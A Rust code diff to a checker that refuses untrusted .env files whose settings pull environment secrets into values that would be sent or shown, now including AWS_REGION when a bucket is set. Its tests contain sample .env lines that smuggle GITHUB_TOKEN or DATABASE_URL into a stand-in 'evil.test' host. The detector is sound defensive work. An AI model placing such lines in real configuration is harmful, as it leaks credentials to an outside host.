@@ -19,6 +19,8 @@ const SENT: [&str; 5] = ["CONTROLLER_URL", "S3_ENDPOINT", "S3_SSL", "S3_REGION",
 const SECRETS: [&str; 4] = ["BAKERY_TOKEN", S3_KEYS[0], S3_KEYS[1], S3_KEYS[2]];
 /// Those of them that are credentials of the bucket.
 const S3_KEYS: [&str; 3] = ["S3_ACCESS_KEY", "S3_SECRET_KEY", "S3_SESSION_TOKEN"];
+/// What the bucket's region is taken from if `S3_REGION` is not set.
+const REGION_OF_AWS: &str = "AWS_REGION";
 /// What allows everything that is refused here.
 const ALLOW: &str = "--trust-dotenv";
 
@@ -40,8 +42,9 @@ pub(crate) fn untrusted_dotenv(
     // What the file says without the environment is its own.
     let own = gather_dotenv("", text, &BTreeMap::new(), &mut Findings::default());
     let file = File { environment, values: &values, own: &own };
-    let settings = || VARIABLES.into_iter().filter(|name| !SECRETS.contains(name));
-    let taken: Vec<_> = settings().filter(|name| file.says(name).is_some() && !file.is_own(name)).collect();
+    let settings = VARIABLES.into_iter().filter(|name| !SECRETS.contains(name));
+    let settings = settings.chain(file.takes_region_of_aws().then_some(REGION_OF_AWS));
+    let taken: Vec<_> = settings.filter(|name| file.says(name).is_some() && !file.is_own(name)).collect();
     for name in &taken {
         // Its value may be a secret, and it would be sent, or shown in a message.
         let text = format!("{name} in .env has a variable of the environment in it");
@@ -80,6 +83,16 @@ impl File<'_> {
         self.own.get(name) == self.values.get(name)
     }
 
+    /// Whether the environment or the file has a value.
+    fn is_set(&self, name: &str) -> bool {
+        self.environment.setting(name).or_else(|| self.values.setting(name)).is_some()
+    }
+
+    /// Whether `AWS_REGION` is a setting here: it becomes a part of the bucket's address.
+    fn takes_region_of_aws(&self) -> bool {
+        self.is_set("S3_BUCKET") && !self.is_set("S3_REGION")
+    }
+
     /// Whether no token of the environment is sent.
     fn token_is_own(&self) -> bool {
         self.environment.setting("BAKERY_TOKEN").is_none() && self.is_own("BAKERY_TOKEN")
@@ -110,9 +123,7 @@ impl File<'_> {
         let is_of_file = |name: &str| self.environment.setting(name).is_none() && self.is_own(name);
         let keys_are_own =
             S3_KEYS.iter().all(|name| is_of_file(name)) && self.says("S3_SECRET_KEY").is_some();
-        let uses_s3 =
-            self.environment.setting("S3_BUCKET").is_some() || self.values.setting("S3_BUCKET").is_some();
-        if keys_are_own || !uses_s3 {
+        if keys_are_own || !self.is_set("S3_BUCKET") {
             return Vec::new();
         }
         let elsewhere = self.says("S3_ENDPOINT").is_some_and(|endpoint| !s3::is_endpoint_of_aws(&endpoint));
@@ -178,6 +189,7 @@ mod tests {
             "S3_ENDPOINT=${GITHUB_TOKEN:?}.evil.test",
             "LOG_FORMAT=${DATABASE_URL}",
             "CONTROLLER_URL=https://${GITHUB_TOKEN:+set}.evil.test",
+            "S3_BUCKET=b\nAWS_REGION=$GITHUB_TOKEN",
         ] {
             let environment =
                 ["CI_REPOSITORY_URL", "GITHUB_TOKEN", "DATABASE_URL"].map(|name| (name, "hunter2"));
@@ -213,6 +225,10 @@ mod tests {
         for aws in ["s3.amazonaws.com", "https://s3.eu-west-1.amazonaws.com"] {
             assert_eq!(read(&keys, &format!("S3_ENDPOINT={aws}\n")).0, [""; 0], "{aws}");
         }
+        let plain = "S3_ENDPOINT=http://s3.amazonaws.com\n";
+        assert_eq!(read(&keys, plain).0.len(), 1, "not encrypted");
+        // Without a bucket it is a variable of the project.
+        assert_eq!(read(&[("X", "r")], "AWS_REGION=$X\n").0, [""; 0]);
     }
 
     #[test]
